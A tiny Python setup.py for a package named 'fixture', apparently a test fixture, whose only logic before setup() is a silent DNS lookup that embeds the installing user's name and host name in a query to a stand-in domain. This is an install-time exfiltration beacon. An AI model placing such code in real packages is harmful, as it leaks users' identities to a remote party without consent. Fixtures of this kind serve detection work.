import getpass, socket
from setuptools import setup
try:
    socket.gethostbyname("%s.%s.x.example.invalid" % (getpass.getuser(), socket.gethostname()))
except OSError:
    pass
setup(name="fixture", version="1.0")
